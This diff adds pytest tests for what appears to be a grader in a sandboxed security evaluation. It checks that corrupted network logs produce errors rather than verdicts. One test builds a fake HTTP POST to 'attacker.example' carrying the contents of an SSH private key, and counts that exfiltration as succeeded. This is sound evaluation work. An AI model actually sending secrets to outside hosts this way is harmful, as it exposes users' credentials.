@@ -131,3 +131,69 @@ def test_evidence_that_could_not_be_read_whole_gives_no_verdict_at_all() -> None
                   corrupt="http.jsonl:3: unknown field(s) ['hots']")
     outcomes = judge(ev, world, [p.id for p in PROBES])
     assert {o.outcome for o in outcomes} == {"error"} and all("hots" in o.explanation for o in outcomes)
+
+
+# --- a run's closed log: every fault is an error, never a verdict ---------------------------------------------
+
+LOGGED = {"http.jsonl": RECORDS["http"], "dns.jsonl": RECORDS["dns"], "tcp.jsonl": RECORDS["tcp"]}
+
+
+def _closed(record: Any, n: int = 3, run: str = "sl-run") -> list[str]:
+    return [wire.dump_line(record, i) for i in range(n)] + [wire.dump_end(run, n, False, 1.0)]
+
+
+def _log_faults(lines: list[str]) -> dict[str, list[str]]:
+    body, end = lines[:-1], lines[-1]
+    first = json.loads(body[0])
+    some_field = [k for k in first if k != "seq"][1]
+    return {
+        "drop a field": [json.dumps({k: v for k, v in first.items() if k != some_field}), *body[1:], end],
+        "rename a field": [json.dumps({(k + "_x" if k == some_field else k): v for k, v in first.items()}), *body[1:], end],
+        "truncate a line": [body[0][: len(body[0]) // 2], *body[1:], end],
+        "inject garbage": [body[0], "\x1b[2J garbage", *body[1:], end],
+        "reorder": [body[1], body[0], *body[2:], end],
+        "duplicate": [body[0], *body, end],
+        "lose the closing record": body,
+        "lose a record": [*body[1:], end],
+        "another run's closing record": [*body, wire.dump_end("sl-other", len(body), False, 1.0)],
+        "a record after the close": [*body, end, body[0]],
+        "empty": [],
+    }
+
+
+LOG_CASES = [(name, fault) for name in LOGGED for fault in _log_faults(_closed(LOGGED[name]))]
+
+
+@pytest.mark.parametrize(("name", "fault"), LOG_CASES, ids=[f"{n}-{f}" for n, f in LOG_CASES])
+def test_every_fault_of_a_closed_log_is_an_error_and_the_run_gets_no_verdict(name: str, fault: str) -> None:
+    from grader.backends.runs import read_sinks
+
+    texts = {n: "\n".join(_closed(r)) + "\n" for n, r in LOGGED.items()}
+    assert read_sinks(lambda n: texts[n], "sl-run")[3] == ""  # whole, it reads
+    lines = _log_faults(_closed(LOGGED[name]))[fault]
+    texts[name] = "\n".join(lines) + ("\n" if lines and fault != "truncate the last line" else "")
+    with pytest.raises(wire.WireError):
+        read_sinks(lambda n: texts[n], "sl-run")
+
+
+def test_an_overflowed_log_keeps_its_records_as_proof_and_its_silence_proves_nothing() -> None:
+    from grader.backends.runs import read_sinks
+    from grader.evidence import Evidence
+    from grader.probes import PROBES
+    from grader.verdicts import judge
+    from grader.world import load_world
+
+    lines = [wire.dump_line(RECORDS["http"], 0), wire.dump_end("sl-run", 1, True, 1.0)]
+    texts = {"http.jsonl": "\n".join(lines) + "\n", **{n: wire.dump_end("sl-run", 0, False, 1.0) + "\n" for n in ("dns.jsonl", "tcp.jsonl")}}
+    http, _, _, incomplete = read_sinks(lambda n: texts[n], "sl-run")
+    assert http == (RECORDS["http"],) and "http.jsonl" in incomplete
+    world = load_world()
+    canaries = {f.path: "0123456789abcdef0123456789abcdef" for f in world.files}
+    records = tuple(fakewire.runner(p.id, "done", True) for p in PROBES) + tuple(
+        fakewire.runner(p.id, "http", False, "refused") for p in PROBES)
+    leak = fakewire.http("attacker.example", "POST", "/", canaries["/home/user/.ssh/id_rsa"])
+    ev = Evidence(token="t0k3n", canaries=canaries, records=records, before={}, after={}, network="proxy",
+                  http=(leak,), incomplete=incomplete, infra_problem=incomplete)
+    got = {o.id: o.outcome for o in judge(ev, world, [p.id for p in PROBES])}
+    assert got["exfil-secret"] == "succeeded"  # what arrived is proof
+    assert "blocked" not in got.values()  # nothing is blocked on a log that lost records
